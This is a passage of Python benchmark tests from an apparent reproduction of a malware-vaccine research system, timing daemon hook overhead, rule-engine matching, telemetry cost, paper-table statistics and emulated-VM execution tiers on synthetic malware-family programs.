    benchmark(lambda: replay_slice(vaccine.slice, host.clone()))


def test_perf_daemon_hook_overhead(family_analyses, benign_programs):
    """Daemon interception overhead on benign workloads (paper: <4.5% for
    119 partial-static vaccines).

    The hook cost comes from the daemon's own accounting (time spent inside
    ``intercept``, published through ``repro.obs``) rather than subtracting
    two noisy wall-clock measurements of the whole workload."""
    from repro.core import DeliveryKind

    vaccines = [v for _, a in family_analyses.values() for v in a.vaccines
                if v.delivery is DeliveryKind.DAEMON]
    vaccinated = SystemEnvironment()
    deployment = deploy(VaccinePackage(vaccines=vaccines), vaccinated)
    daemon = deployment.daemon
    assert daemon is not None

    def workload():
        started = time.perf_counter()
        for _ in range(8):
            for program in benign_programs:
                run_sample(program, environment=vaccinated,
                           record_instructions=False)
        return time.perf_counter() - started

    workload()  # warm-up
    daemon.calls_seen = daemon.calls_matched = 0
    daemon.seconds_intercepting = 0.0
    wall = min(workload() for _ in range(3))
    daemon.flush_metrics()

    hook_seconds = obs.metrics.value("daemon.hook_seconds") / 3  # per pass
    overhead = hook_seconds / wall
    write_artifact(
        "perf_daemon.txt",
        "Daemon hook overhead (paper: <4.5% for 119 partial-static vaccines)\n"
        f"daemon vaccines: {len(vaccines)}\n"
        f"rules active:    {obs.metrics.value('daemon.rules_active'):.0f}\n"
        f"calls hooked:    {obs.metrics.value('daemon.calls_seen'):.0f}\n"
        f"calls matched:   {obs.metrics.value('daemon.calls_matched_total'):.0f}\n"
        f"benign workload wall: {wall * 1000:.1f} ms/pass\n"
        f"time inside hook:     {hook_seconds * 1000:.2f} ms/pass\n"
        f"hook overhead: {overhead:.1%}\n",
    )
    assert obs.metrics.value("daemon.calls_seen") > 0
    # The hook's share of the workload stays a small multiplier.
    assert overhead < 0.45


def test_perf_rule_engine_matching():
    """Rule-engine matching micro-bench (the daemon hot path).

    One synthetic engine — 100 exact rules, 20 pattern rules, one
    operation-restricted policy rule — probed with the four match shapes
    that exercise its structure: exact-map hit, exact-map miss, pattern
    hit (alternation gate + attribution scan), and a pattern *prefix*
    miss (the alternation gate rejecting in one regex test).  Per-case
    batch times land in ``engine_baseline.json`` with the same
    ``per_sample_seconds`` schema as the impact baseline, so
    ``check_bench_regression.py`` gates both with one comparator."""
    import json

    from repro.core.policy import PolicyRule, TemporalApiPolicy
    from repro.core.vaccine import (
        IdentifierKind,
        Immunization,
        Mechanism,
        Vaccine,
    )
    from repro.delivery.engine import RuleEngine
    from repro.winenv.objects import Operation, ResourceType

    from benchutil import ARTIFACTS

    def vaccine(i, kind=IdentifierKind.STATIC, pattern=None):
        return Vaccine(
            malware="bench",
            resource_type=ResourceType.MUTEX,
            identifier=f"BenchMutex{i:04d}",
            identifier_kind=kind,
            mechanism=Mechanism.SIMULATE_PRESENCE,
            immunization=Immunization.FULL,
            pattern=pattern,
        )

    vaccines = [vaccine(i) for i in range(100)]
    vaccines += [
        vaccine(100 + i, IdentifierKind.PARTIAL_STATIC, rf"bm{i:02d}[a-f0-9]{{8}}")
        for i in range(20)
    ]
    policy = TemporalApiPolicy(
        sample="bench",
        boundary_seq=0,
        deny=[
            PolicyRule(
                ResourceType.SERVICE,
                "benchsvc",
                operations=frozenset({Operation.CREATE}),
            )
        ],
    )
    engine = RuleEngine.compile(vaccines=vaccines, policies=[policy])
    assert len(engine) == 121

    matches = 20_000
    probes = {
        "exact_hit": (ResourceType.MUTEX, "BenchMutex0042", Operation.CHECK, True),
        "exact_miss": (ResourceType.MUTEX, "NoSuchMutex9999", Operation.CHECK, False),
        "pattern_hit": (ResourceType.MUTEX, "bm07deadbeef", Operation.CHECK, True),
        "pattern_prefix_miss": (
            ResourceType.MUTEX, "bm07deadbeef00", Operation.CHECK, False,
        ),
    }

    per_case = {}
    for case, (rtype, identifier, operation, should_hit) in probes.items():
        assert (engine.match(rtype, identifier, operation) is not None) == should_hit

        def batch(rtype=rtype, identifier=identifier, operation=operation):
            match = engine.match
            for _ in range(matches):
                match(rtype, identifier, operation)

        per_case[case], _ = min_wall_seconds(batch, repeats=5)

    (ARTIFACTS / "engine_baseline.json").write_text(
        json.dumps(
            {"matches_per_case": matches, "per_sample_seconds": per_case},
            indent=2,
            sort_keys=True,
        )
        + "\n"
    )
    lines = [
        f"RuleEngine matching micro-bench ({len(engine)} rules, "
        f"{matches} matches/case, best of 5)"
    ]
    for case, seconds in per_case.items():
        lines.append(f"  {case:<20s} {seconds / matches * 1e9:8.0f} ns/match")
    write_artifact("engine.txt", "\n".join(lines) + "\n")
    # structural sanity: the exact map must stay cheaper than the pattern scan
    assert per_case["exact_hit"] < per_case["pattern_hit"] * 3


def test_obs_instrumentation_overhead():
    """The observability layer itself must be nearly free: a full pipeline
    run with spans+counters enabled stays within 5% of ``obs.disabled()``.

    Estimator: the two modes are timed back-to-back in pairs (alternating
    order) and the overhead is the *median* of the paired ratios — pairing
    cancels CPU-frequency drift, the median shrugs off scheduler outliers.
    The artifact backs the README/DESIGN claim.

    The flight recorder is off in *both* modes — it has its own budget and
    bench (:func:`test_flight_recorder_overhead`); folding it in here would
    double-count it against the spans+metrics budget."""
    import gc
    import statistics

    program = build_family("zeus")
    reps = 3      # analyses per timing sample (amortizes timer granularity)
    pairs = 11    # paired samples; >=6 must be noisy to break the median

    def run_enabled():
        obs.reset()  # steady-state cost, not unbounded span accumulation
        obs.flight.enabled = False
        try:
            for _ in range(reps):
                result = AutoVac().analyze(program)
        finally:
            obs.flight.enabled = True
        return result

    def run_disabled():
        with obs.disabled():
            for _ in range(reps):
                result = AutoVac().analyze(program)
        return result

    run_enabled(), run_disabled()  # warm-up both paths
    ratios = []
    enabled_s = disabled_s = float("inf")
    result = None
    for i in range(pairs):
        gc.collect()
        gc.disable()  # collection pauses must not land on one mode
        try:
            if i % 2:
                d, _ = min_wall_seconds(run_disabled, repeats=1)
                e, result = min_wall_seconds(run_enabled, repeats=1)
            else:
                e, result = min_wall_seconds(run_enabled, repeats=1)
                d, _ = min_wall_seconds(run_disabled, repeats=1)
        finally:
            gc.enable()
        ratios.append(e / d)
        enabled_s = min(enabled_s, e)
        disabled_s = min(disabled_s, d)
    assert result.vaccines
    overhead = statistics.median(ratios) - 1.0
    write_artifact(
        "obs_overhead.txt",
        "repro.obs instrumentation overhead on the full pipeline (zeus)\n"
        f"instrumented (spans+metrics): {enabled_s * 1000:.2f} ms (best of {pairs})\n"
        f"obs.disabled() baseline:      {disabled_s * 1000:.2f} ms (best of {pairs})\n"
        f"overhead: {overhead:+.2%}  (median of {pairs} paired ratios; "
        "budget: <=5%)\n",
    )
    assert overhead <= 0.05


def test_run_telemetry_overhead(tmp_path):
    """The run-telemetry stream must honor the same cheap-hook contract:
    a full pipeline run with a spool emitter installed (every lifecycle
    event written and flushed to ``spool/events-<pid>.jsonl``) stays within
    5% of telemetry-off, where the hooks in ``analyze``/``run_stages``
    reduce to one global load and an ``is None`` test.

    Same estimator as :func:`test_flight_recorder_overhead`: paired
    alternating-order timings, median of the ratios."""
    import gc
    import os
    import statistics

    from repro.obs import stream

    program = build_family("zeus")
    spool = tmp_path / "spool"
    reps = 6
    pairs = 11

    def run_stream_on():
        obs.reset()  # also uninstalls any emitter
        stream.install(spool)
        try:
            for _ in range(reps):
                result = AutoVac().analyze(program)
        finally:
            stream.uninstall()
        return result

    def run_stream_off():
        obs.reset()
        for _ in range(reps):
            result = AutoVac().analyze(program)
        return result

    run_stream_on(), run_stream_off()  # warm-up both paths
    ratios = []
    on_s = off_s = float("inf")
    result = None
    for i in range(pairs):
        gc.collect()
        gc.disable()
        try:
            if i % 2:
                off, _ = min_wall_seconds(run_stream_off, repeats=1)
                on, result = min_wall_seconds(run_stream_on, repeats=1)
            else:
                on, result = min_wall_seconds(run_stream_on, repeats=1)
                off, _ = min_wall_seconds(run_stream_off, repeats=1)
        finally:
            gc.enable()
        ratios.append(on / off)
        on_s = min(on_s, on)
        off_s = min(off_s, off)
    assert result.vaccines
    spooled = sum(1 for _ in (spool / f"events-{os.getpid()}.jsonl").open())
    assert spooled > 0  # the instrumented mode really spooled events
    overhead = statistics.median(ratios) - 1.0
    write_artifact(
        "telemetry_overhead.txt",
        "run-telemetry spool overhead on the full pipeline (zeus)\n"
        f"emitter installed: {on_s * 1000:.2f} ms (best of {pairs})\n"
        f"telemetry off:     {off_s * 1000:.2f} ms (best of {pairs})\n"
        f"events spooled: {spooled}\n"
        f"overhead: {overhead:+.2%}  (median of {pairs} paired ratios; "
        "budget: <=5%)\n",
    )
    assert overhead <= 0.05


def test_flight_recorder_overhead():
    """The flight recorder alone must also be nearly free: a full pipeline
    run with the journal on stays within 5% of ``flight.enabled = False``
    (metrics and spans stay on in both modes, isolating the recorder).

    Same estimator as :func:`test_obs_instrumentation_overhead`: paired
    alternating-order timings, median of the ratios."""
    import gc
    import statistics

    program = build_family("zeus")
    reps = 6      # larger than the obs test: the effect being resolved is
    pairs = 11    # smaller, so each timing sample amortizes more noise

    def run_flight_on():
        obs.reset()
        for _ in range(reps):
            result = AutoVac().analyze(program)
        return result

    def run_flight_off():
        obs.reset()
        obs.flight.enabled = False
        try:
            for _ in range(reps):
                result = AutoVac().analyze(program)
        finally:
            obs.flight.enabled = True
        return result

    run_flight_on(), run_flight_off()  # warm-up both paths
    ratios = []
    on_s = off_s = float("inf")
    result = None
    for i in range(pairs):
        gc.collect()
        gc.disable()
        try:
            if i % 2:
                off, _ = min_wall_seconds(run_flight_off, repeats=1)
                on, result = min_wall_seconds(run_flight_on, repeats=1)
            else:
                on, result = min_wall_seconds(run_flight_on, repeats=1)
                off, _ = min_wall_seconds(run_flight_off, repeats=1)
        finally:
            gc.enable()
        ratios.append(on / off)
        on_s = min(on_s, on)
        off_s = min(off_s, off)
    assert result.vaccines
    assert result.journal is not None and len(result.journal) > 0
    overhead = statistics.median(ratios) - 1.0
    write_artifact(
        "flight_overhead.txt",
        "flight-recorder journal overhead on the full pipeline (zeus)\n"
        f"journal on:  {on_s * 1000:.2f} ms (best of {pairs})\n"
        f"journal off: {off_s * 1000:.2f} ms (best of {pairs})\n"
        f"overhead: {overhead:+.2%}  (median of {pairs} paired ratios; "
        "budget: <=5%)\n",
    )
    assert overhead <= 0.05
