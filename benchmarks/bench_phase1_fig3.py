"""Phase-I statistics (§VI-B) and Figure 3 — resource-sensitive behaviours.

Paper: 460,323 tracked API-call occurrences over 1,716 samples, of which
80.3% can deviate execution; Figure 3 shows file accesses dominating
(~37%), then registry (~20%), windows (~13%), process (~8%), mutex (~7%),
library (~6.6%), service (~3.4%).
"""

import pytest

from repro.core import select_candidates
from repro.corpus import build_family

from benchutil import write_artifact


@pytest.mark.benchmark(group="phase1")
def test_phase1_occurrence_stats(benchmark, population):
    _, result = population
    stats = result.occurrence_stats()
    rate = stats["influential"] / max(stats["total"], 1)

    write_artifact(
        "phase1_stats.txt",
        "Phase-I reproduction (paper: 460,323 occurrences, 80.3% influential)\n"
        f"occurrences tracked: {stats['total']}\n"
        f"influence control flow: {stats['influential']} ({rate:.1%})\n",
    )
    # Shape: the large majority of resource accesses are control-flow
    # relevant (paper: 80.3%).
    assert rate > 0.5
    assert stats["total"] > 100

    benchmark(lambda: select_candidates(build_family("zeus")))


@pytest.mark.benchmark(group="fig3")
def test_fig3_resource_operation_mix(benchmark, population):
    _, result = population
    stats = result.resource_operation_stats()
    totals = {rtype: sum(ops.values()) for rtype, ops in stats.items()}
    grand = sum(totals.values())

    lines = ["Figure 3 reproduction — resource-sensitive behaviour mix",
             f"{'resource':10s}{'share':>8s}   operations"]
    for rtype, total in sorted(totals.items(), key=lambda kv: -kv[1]):
        ops = ", ".join(f"{op}={n}" for op, n in sorted(stats[rtype].items()))
        lines.append(f"{rtype:10s}{100 * total / grand:7.1f}%   {ops}")
    write_artifact("fig3.txt", "\n".join(lines) + "\n")

    # Shape claims from the figure: files dominate; registry is a major
    # secondary; mutex/service are minor but present.
    assert totals["file"] == max(totals.values())
    assert totals["registry"] >= totals.get("mutex", 0)
    assert totals.get("mutex", 0) > 0
    assert totals.get("service", 0) > 0

    def count_stats():
        return result.resource_operation_stats()

    benchmark(count_stats)


def test_fig3_operations_cover_create_read_write_delete(population):
    _, result = population
    stats = result.resource_operation_stats()
    file_ops = set(stats["file"])
    assert {"create", "read", "write"} <= file_ops
