"""Table IV — vaccine generation over the population.

Paper: 536 vaccines for 210 of 1,716 samples; file row largest (238), then
registry (115); Type-III (persistence) the largest partial column (251);
373 static vs 163 algorithm-deterministic/partial-static identifiers.
"""

import pytest

from repro import AutoVac
from repro.corpus import build_family

from benchutil import POPULATION_CACHE, POPULATION_JOBS, render_table, write_artifact


@pytest.mark.benchmark(group="table4")
def test_table4_vaccine_generation(benchmark, population):
    samples, result = population
    table = result.count_by_resource_and_immunization()
    write_artifact("table4.txt", render_table(
        "Table IV reproduction — vaccines by resource x immunization", table)
        + f"(population executor: jobs={POPULATION_JOBS}, "
          f"cache={'on' if POPULATION_CACHE else 'off'})\n")

    totals = {rt: sum(row.values()) for rt, row in table.items()}
    columns = {}
    for row in table.values():
        for col, n in row.items():
            columns[col] = columns.get(col, 0) + n

    # Row shape: file vaccines dominate, registry/mutex are major rows.
    assert totals["file"] == max(totals.values())
    assert totals.get("registry", 0) > 0 and totals.get("mutex", 0) > 0
    # Column shape: both full and partial immunizations present; persistence
    # is the largest partial class (paper: 251 of 536).
    partial_cols = {c: n for c, n in columns.items() if c != "full"}
    assert partial_cols
    assert columns.get("disable_persistence", 0) == max(partial_cols.values())
    # Yield shape: a minority of samples has vaccines (paper: 210/1716).
    assert 0 < result.samples_with_vaccines < len(samples) * 0.6
    # More vaccines than vaccinated samples (paper: 536 > 210).
    assert len(result.vaccines) > result.samples_with_vaccines

    benchmark(lambda: AutoVac().analyze(build_family("sality")))


def test_table4_identifier_kind_split(population):
    """Paper: 373 static vs 163 algorithm-deterministic or partial static."""
    _, result = population
    kinds = result.count_by_identifier_kind()
    static = kinds.get("static", 0)
    non_static = kinds.get("partial_static", 0) + kinds.get("algorithm_deterministic", 0)
    write_artifact(
        "table4_kinds.txt",
        f"identifier kinds (paper: 373 static / 163 non-static)\n{kinds}\n",
    )
    assert static > non_static > 0


def test_table4_no_non_deterministic_vaccines(population):
    _, result = population
    assert all(v.identifier_kind.value != "non_deterministic" for v in result.vaccines)
