"""VM tier-3 (superblock) performance: one dispatch per hot region.

Three kernels pin the execution tiers against each other (see DESIGN.md,
"Three-tier execution model"):

* **straight** — a long unrolled ALU block inside a short loop: maximal
  straight-line regions, the superblock compiler's best case;
* **loop** — a tight 6-instruction stalling loop (the Sality/Conficker
  anti-sandbox shape): one back-edge region that iterates internally,
  paying one dispatch per *entry* instead of per iteration;
* **taint** — the Conficker-style hash of a tainted computer name: tainted
  loads and predicates keep control on the recording-capable slow path, so
  superblocks must not engage (the kernel pins "no regression when the
  guards say no").

Each kernel runs with superblocks on and off and must finish in the same
machine state either way.  Artifacts: ``_artifacts/vm.txt`` and
``_artifacts/vm_baseline.json`` (gated by ``check_bench_regression.py``
under the shared ``per_sample_seconds`` schema), plus
``_artifacts/vm_profile.txt`` — one profiled run per kernel so a BENCH_vm
regression names the tier/region that moved, not just the ratio.
"""

from __future__ import annotations

import json

from repro import obs
from repro.obs.prof import render_table
from repro.corpus.builder import AsmBuilder, frag_computer_name_hash
from repro.vm import CPU, assemble
from repro.winapi import Dispatcher
from repro.winenv import SystemEnvironment

from benchutil import min_wall_seconds, write_artifact

STRAIGHT = """
    mov ecx, 2000
outer:
""" + "\n".join(
    "    mov eax, ecx\n    imul eax, 13\n    xor eax, 0x5a5a\n    add ebx, eax\n"
    "    mov edx, ebx\n    shr edx, 2\n    and edx, 0xffff\n    add esi, edx"
    for _ in range(8)
) + """
    dec ecx
    jnz outer
    halt
"""

LOOP = """
    mov ecx, 120000
spin:
    mov eax, ecx
    imul eax, 17
    xor eax, 0x1234
    add edx, eax
    dec ecx
    jnz spin
    halt
"""


def _taint_program():
    b = AsmBuilder("vm_bench_taint")
    out = b.buffer(64)
    # 400 rounds of the tainted hash loop: every load and predicate carries
    # GetComputerNameA's env taint, which the superblock guards reject.
    b.emit("    mov edi, 400")
    again = b.label("again")
    frag_computer_name_hash(b, out)
    b.emit("    dec edi", f"    jnz {again}", "    halt")
    return b.build(family="bench", category="bench")


def _run(program, superblocks: bool):
    env = SystemEnvironment()
    proc = env.spawn_process("vm-bench.exe")
    cpu = CPU(
        program,
        environment=env,
        process=proc,
        dispatcher=Dispatcher(env, proc),
        max_steps=2_000_000,
        record_instructions=False,
        superblocks=superblocks,
    )
    cpu.run()
    return cpu


def _state(cpu) -> tuple:
    return (cpu.status, cpu.steps, cpu.pc, dict(cpu.regs), dict(cpu.flags))


KERNELS = (
    ("straight", lambda: assemble(STRAIGHT, name="vm-straight")),
    ("loop", lambda: assemble(LOOP, name="vm-loop")),
    ("taint", _taint_program),
)


def test_superblock_kernels():
    per_sample = {}
    per_sample_off = {}
    rows = []
    with obs.disabled():
        for name, make in KERNELS:
            program = make()
            on_s, on_cpu = min_wall_seconds(lambda: _run(program, True), repeats=3)
            off_s, off_cpu = min_wall_seconds(lambda: _run(program, False), repeats=3)
            assert _state(on_cpu) == _state(off_cpu), f"{name}: state diverged"
            per_sample[name] = on_s
            per_sample_off[name] = off_s
            rows.append((name, on_cpu.steps, on_s, off_s))

    # Superblock-friendly kernels must actually win; the taint kernel only
    # has to avoid regressing (guards keep it on the slow path either way).
    assert per_sample_off["straight"] / per_sample["straight"] >= 1.3
    assert per_sample_off["loop"] / per_sample["loop"] >= 1.3
    assert per_sample["taint"] <= per_sample_off["taint"] * 1.35

    lines = ["VM superblock kernels: superblocks on vs off (best of 3)"]
    for name, steps, on_s, off_s in rows:
        lines.append(
            f"  {name:<10} {steps:>9,} steps  on {on_s * 1e3:8.2f} ms"
            f"  off {off_s * 1e3:8.2f} ms  ({off_s / on_s:5.2f}x)"
        )
    write_artifact("vm.txt", "\n".join(lines) + "\n")
    write_artifact(
        "vm_baseline.json",
        json.dumps(
            {
                "per_sample_seconds": per_sample,
                "per_sample_seconds_superblocks_off": per_sample_off,
            },
            indent=2,
            sort_keys=True,
        )
        + "\n",
    )

    # Attribution rider: one profiled run per kernel, outside the timed
    # section, so a regression in the numbers above comes with the tier or
    # region that moved.
    sections = ["VM kernels: per-tier attribution (one profiled run each)"]
    for name, make in KERNELS:
        obs.prof.reset()
        with obs.profiled():
            _run(make(), True)
            profile = obs.prof.snapshot()
        sections.append("")
        sections.append(f"[{name}]")
        sections.append(render_table(profile, top=10).rstrip("\n"))
    obs.prof.reset()
    write_artifact("vm_profile.txt", "\n".join(sections) + "\n")
